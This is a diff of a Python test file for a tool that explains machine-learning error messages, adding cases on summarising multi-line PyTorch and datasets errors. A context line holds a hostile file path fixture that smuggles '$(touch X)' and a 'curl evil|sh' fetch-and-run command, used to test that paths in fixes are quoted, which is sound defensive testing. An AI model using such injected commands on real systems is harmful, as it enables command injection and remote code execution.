@@ -123,6 +123,31 @@ def explain_text(text):
     return explain([text.encode()])
 
 
+@pytest.mark.parametrize(("error", "words"), [
+    (
+        "RuntimeError: Error(s) in loading state_dict for Net:\n\tsize mismatch for fc.weight: copying a param with shape "
+        "torch.Size([10, 8]) from checkpoint, the shape in current model is torch.Size([5, 8]).",
+        "fc.weight: a weight of shape torch.Size([10, 8]), the model expects torch.Size([5, 8])",
+    ),
+    (
+        'RuntimeError: Error(s) in loading state_dict for Net:\n\tMissing key(s) in state_dict: "fc.weight", "fc.bias". ',
+        'Missing key(s) in state_dict: "fc.weight", "fc.bias"',
+    ),
+    (
+        "ValueError: Target module Mlp(\n  (up): Linear(in_features=2, out_features=2)\n) is not supported. Currently, "
+        "only the following modules are supported: `torch.nn.Linear`.",
+        "Target module Mlp is not supported",
+    ),
+    (
+        "datasets.table.CastError: Couldn't cast\nq: string\nto\n{'a': Value('string')}\nbecause column names don't match",
+        "column names don't match",
+    ),
+    ("RuntimeError: Tensor on device cpu is not on the expected device meta!", "Tensor on device cpu"),
+])  # fmt: skip
+def test_the_summary_has_what_a_message_of_several_lines_is_about(error, words):
+    assert words in explain_text(raised(None, error)).summary
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
     path = "/data/$(touch X);curl evil|sh/train.bin"
     fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
